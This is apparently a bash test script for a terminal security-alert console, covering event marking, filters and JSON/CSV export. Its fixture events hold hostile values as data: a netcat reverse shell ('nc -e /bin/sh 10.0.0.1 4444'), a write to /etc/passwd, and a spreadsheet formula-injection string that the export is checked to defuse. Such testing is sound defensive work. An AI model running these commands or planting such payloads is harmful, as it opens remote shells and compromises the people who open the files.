#!/bin/bash
# Marks and export in the console, under tmux: Space, T (mark by filter),
# [ and ], U, is:marked filters following marks, :mark/:unmark, :export of the
# marked or else the shown events as JSON (compared byte for byte with the
# input lines) and CSV (parsed back), the overwrite question, errors, and
# the : command line itself.
. "$SOCTERM_SRC/tests/lib/tap.sh"
. "$SOCTERM_SRC/tests/lib/tmux.sh"

ev() { # n priority rule cmdline
	printf '{"hostname":"node-%s","output":"10:00:%02d.000000000: %s %s (cmd=%s)","priority":"%s","rule":"%s","source":"syscall","tags":["t%s"],"time":"2024-05-01T10:00:%02d.000000000Z","output_fields":{"proc.cmdline":"%s","user.loginuid":-1,"user.name":"root"}}\n' \
		"$1" "$1" "$2" "$3" "$4" "$2" "$3" "$1" "$1" "$4"
}
E="$T/events.jsonl"
{
	ev 1 Warning "Terminal shell in container" "bash -i"
	ev 2 Error "Write below etc" "tee /etc/passwd"
	# attacker-controlled values that must survive CSV: comma, quotes, a formula
	ev 3 Critical "Read sensitive file untrusted" '=HYPERLINK(\"http://x\",\"y\"), cat'
	ev 4 Notice "Launch Privileged Container" "-2+3"
	ev 5 Critical "Netcat Remote Code Execution" "nc -e /bin/sh 10.0.0.1 4444"
	# an unparsed line stays in the timeline (at its arrival time, so last)
	# and exports as it came
	printf '{"rule": "truncated", "priority":\n'
	# spacing and key order are kept byte for byte
	printf '{ "time" : "2024-05-01T10:00:07Z" , "rule":"Odd spacing",  "priority":"Error","output":"x","hostname":"node-7"}\n'
} > "$E"

lines() { for l in "$@"; do sed -n "${l}p" "$E"; done; } # input lines, in this order
TIMELINE="1 2 3 4 5 7 6"  # the unparsed line 6 arrived now: newest
tmux_gone() { tmux -L "$TUI_SOCK" ls 2>&1 | grep -q "no server running"; }
cursor_hidden() { test "$(tmux -L "$TUI_SOCK" display -p -t t '#{cursor_flag}')" = 0; }
closed() { wait_for 10 "the prompt closes (cursor hidden)" cursor_hidden; }

tui_start -x 120 -y 30 -- "$E"
ok "events shown" tui_wait "7 shown/7 held"

# ---- Space marks the selected event and moves down; [ and ] jump
tui_keys g Space
ok "Space marks" tui_wait "1 marked"
ok "the row shows the mark" tui_wait_re "^10:00:01\\.000 \\*  WARN"
tui_keys Space
ok "... and moves down: the next one gets marked" tui_wait "2 marked"
tui_keys Enter
ok "detail pane" tui_wait "output_fields ("
tui_keys k Space
ok "Space on a marked event unmarks it" tui_wait "1 marked"
ok "its mark is gone" tui_wait_re "^10:00:02\\.000    ERR"
tui_keys G ']'
ok "] goes round to the first marked event" tui_wait_re "hostname +node-1"
ok "and says it wrapped" tui_wait "wrapped around"
tui_keys j j Space
ok "another mark" tui_wait "2 marked"
tui_keys '['
ok "[ goes to the previous marked event" tui_wait_re "hostname +node-3"
tui_keys '['
ok "[ again" tui_wait_re "hostname +node-1"
tui_keys Enter

# ---- U clears (few marks: at once)
tui_keys U
ok "U clears the marks" tui_wait "2 marks cleared"
ok "no marks in the status bar" tui_wait_gone "marked"

# ---- T marks by expression; bad expressions keep the prompt
tui_keys T
ok "T opens the mark prompt" tui_wait_re "^mark: *$"
tui_type 'priority=critical or'
tui_keys Enter
ok "a bad expression shows its error" tui_wait_re "at [0-9]+"
tui_keys C-u
tui_type 'priority=critical'
tui_keys Enter
ok "T marks every matching event" tui_wait "marked 2 events matching priority=critical"
ok "the status bar counts them" tui_wait "2 marked"

# ---- a filter on is:marked follows the marks
tui_keys f
tui_type 'is:marked'
tui_keys Enter
ok "is:marked shows the marked events" tui_wait "2 shown/7 held"
tui_keys g Space
ok "unmarking one hides it at once" tui_wait "1 shown/7 held"
tui_keys :
tui_type 'mark rule="Write below etc"'
tui_keys Enter
ok ":mark EXPR looks at the shown events only" tui_wait "marked 0 events matching"
ok "... so nothing changed" tui_wait "1 shown/7 held"
tui_keys F
tui_keys :
tui_type 'mark rule="Write below etc"'
tui_keys Enter
ok ":mark marks the shown events" tui_wait "marked 1 event matching"
ok "two marked now" tui_wait "2 marked"

# ---- export the marked events: their original lines, byte for byte
tui_keys :
tui_type "export $T/marked.jsonl"
tui_keys Enter
ok "export reports count and path" tui_wait "exported 2 marked events to $T/marked.jsonl"
lines 2 5 > "$T/want.jsonl"
ok "the marked events' original bytes" cmp "$T/marked.jsonl" "$T/want.jsonl"
ok "the file is private" test "$(stat -c %a "$T/marked.jsonl")" = 600

# ---- no marks: the shown events (a filter in force)
tui_keys U
tui_wait "marks cleared" >/dev/null
tui_keys f C-u
tui_type 'not rule="Launch Privileged Container"'
tui_keys Enter
tui_wait "6 shown/7 held" >/dev/null
tui_keys :
tui_type "export $T/shown.jsonl"
tui_keys Enter
ok "without marks the shown events are exported" tui_wait "exported 6 events to $T/shown.jsonl"
lines 1 2 3 5 7 6 > "$T/want.jsonl"
ok "their bytes, the unparsed line included" cmp "$T/shown.jsonl" "$T/want.jsonl"

# ---- overwriting needs a yes
cp "$T/shown.jsonl" "$T/before.jsonl"
tui_keys f C-u Enter
tui_wait "7 shown/7 held" >/dev/null
tui_keys :
tui_type "export $T/shown.jsonl"
tui_keys Enter
ok "an existing file: the console asks" tui_wait "shown.jsonl exists: overwrite? (y/n)"
tui_keys n
ok "n keeps it" tui_wait "cancelled"
ok "the file is untouched" cmp "$T/shown.jsonl" "$T/before.jsonl"
tui_keys :
tui_type "export $T/shown.jsonl"
tui_keys Enter
tui_wait "overwrite? (y/n)" >/dev/null
tui_keys x
ok "other keys do not answer" tui_wait "overwrite? (y/n)"
tui_keys y
ok "y replaces it" tui_wait "exported 7 events to $T/shown.jsonl"
lines $TIMELINE > "$T/want.jsonl"
ok "with every event now, in timeline order" cmp "$T/shown.jsonl" "$T/want.jsonl"
ok "no temporary file left behind" test "$(find "$T" -maxdepth 1 -name '.shown*' | wc -l)" = 0

# ---- CSV, parsed back
csv_cells() { # file: prints "row|col|value" per cell, parsing RFC 4180
	perl -e '
		local $/; open my $f, "<", $ARGV[0] or die; my $s = <$f>;
		my ($r, $c, $v, $q) = (0, 0, "", 0);
		my @ch = split //, $s;
		for (my $i = 0; $i < @ch; $i++) {
			my $x = $ch[$i];
			if ($q) {
				if ($x eq q(")) { if ($i + 1 < @ch && $ch[$i+1] eq q(")) { $v .= q("); $i++ } else { $q = 0 } }
				else { $v .= $x }
			} elsif ($x eq q(")) { $q = 1 }
			elsif ($x eq ",") { print "$r|$c|$v\n"; $c++; $v = "" }
			elsif ($x eq "\r" && $ch[$i+1] eq "\n") { print "$r|$c|$v\n"; $r++; $c = 0; $v = ""; $i++ }
			elsif ($x eq "\n") { die "bare LF at $i\n" }
			else { $v .= $x }
		}' "$1"
}
tui_keys :
tui_type "export --csv --columns time,rule,proc.cmdline,user.loginuid,tags $T/out.csv"
tui_keys Enter
ok "CSV export" tui_wait "exported 7 events to $T/out.csv (CSV)"
cells=$(csv_cells "$T/out.csv")
is "$(echo "$cells" | grep -c '^0|')" 5 "header has the 5 columns"
is "$(echo "$cells" | awk -F'|' '$2==0' | wc -l)" 8 "a row per event, plus the header"
is "$(echo "$cells" | grep '^0|2|')" "0|2|proc.cmdline" "header names"
is "$(echo "$cells" | grep '^1|0|')" "1|0|2024-05-01T10:00:01.000000000Z" "time column"
is "$(echo "$cells" | grep '^3|2|')" '3|2|'"'"'=HYPERLINK("http://x","y"), cat' "a formula is defused; commas and quotes survive"
is "$(echo "$cells" | grep '^4|2|')" "4|2|'-2+3" "a leading - that is not a number is defused"
is "$(echo "$cells" | grep '^1|3|')" "1|3|-1" "a negative number stays a number"
is "$(echo "$cells" | grep '^5|4|')" "5|4|t5" "tags column"
is "$(head -1 "$T/out.csv" | tail -c 2 | od -An -tx1 | tr -d ' ')" "0d0a" "CRLF line ends"
tui_keys :
tui_type "export --csv $T/default.csv"
tui_keys Enter
tui_wait "exported 7 events to $T/default.csv" >/dev/null
is "$(head -1 "$T/default.csv")" $'time,priority,rule,hostname,source,output\r' "default CSV columns"

# ---- errors stay in the command line
tui_keys :
tui_type "export $T/no/such/dir/x.jsonl"
tui_keys Enter
ok "an unwritable path is an error under the prompt" tui_wait "cannot write in the directory"
ok "the command line stays open" tui_wait ":export $T/no/such/dir/x.jsonl"
tui_keys C-u
tui_type 'export --csv --columns time,bogus x.csv'
tui_keys Enter
ok "an unknown column is named" tui_wait "unknown column 'bogus'"
ok "and the known ones are listed, not cut off by the caret" tui_wait "(known: time, priority, rule"
tui_keys C-u
tui_type 'export --xml x'
tui_keys Enter
ok "an unknown option is named" tui_wait "unknown option '--xml'"
tui_keys C-u
tui_type 'frobnicate now'
tui_keys Enter
ok "an unknown command is an error" tui_wait "unknown command 'frobnicate'"
tui_keys C-u
tui_type 'help'
tui_keys Enter
ok ":help lists the commands" tui_wait_re "commands: .*export.*filter"
tui_keys :
tui_type 'help exp'
tui_keys Enter
ok ":help NAME describes one (prefixes work)" tui_wait ":export [--csv [--columns a,b,c]] FILE"

# ---- :unmark, U with many marks asks first
tui_keys :
tui_type 'mark priority>=error'
tui_keys Enter
ok ":mark (unparsed records rank above every priority)" tui_wait "5 marked"
tui_keys :
tui_type 'unmark priority=critical'
tui_keys Enter
ok ":unmark EXPR" tui_wait "3 marked"
tui_keys :
tui_type 'unmark'
tui_keys Enter
ok ":unmark clears all" tui_wait "3 marks cleared"

# ---- marked events are never evicted
tui_keys g Space
tui_keys :
tui_type 'q'
tui_keys Enter
ok ":q quits" wait_for 5 "exit" tui_dead
tmux -L "$TUI_SOCK" kill-server 2>/dev/null
wait_for 5 "old tmux server gone" tmux_gone
tui_start -x 120 -y 30 -- --capacity 100 --follow "$E"
tui_wait "7 shown/7 held" >/dev/null
tui_keys g Space
tui_wait "1 marked" >/dev/null
for i in $(seq 1 120); do
	printf '{"hostname":"filler-%d","output":"filler %d","priority":"Notice","rule":"Filler","time":"2024-05-01T11:%02d:%02d.000000000Z"}\n' \
		"$i" "$i" $((i / 60)) $((i % 60))
done >> "$E"
ok "capacity reached, oldest evicted" tui_wait_re "100 held.*27 evicted"
tui_keys g
ok "the marked event is still held" tui_wait_re "^10:00:01\\.000 \\*  WARN Terminal shell"

# At 80 columns the bar keeps what is state (paused, marks, the filter,
# Phantom) and lets totals and rates go first.
tui_resize 80 24
tui_keys p
tui_keys f
tui_type "rule~e"
tui_keys Enter
statusbar() { tmux -L "$TUI_SOCK" capture-pane -p -t t | grep "shown/"; }
bar_has_all() { local l; l=$(statusbar); [[ $l == *PAUSED* && $l == *marked* && $l == *"filter: rule~e"* && $l == *Phantom* ]]; }
ok "80 columns: PAUSED, marks, filter and Phantom state all on the bar" wait_for 10 "status bar" bar_has_all
statusbar | sed 's/^/# /'
tui_resize 50 24
ok "50 columns: the pause is still shown" tui_wait_re "shown/.*PAUSED"
tui_resize 120 30
tui_keys q
wait_for 5 "exit" tui_dead
done_testing
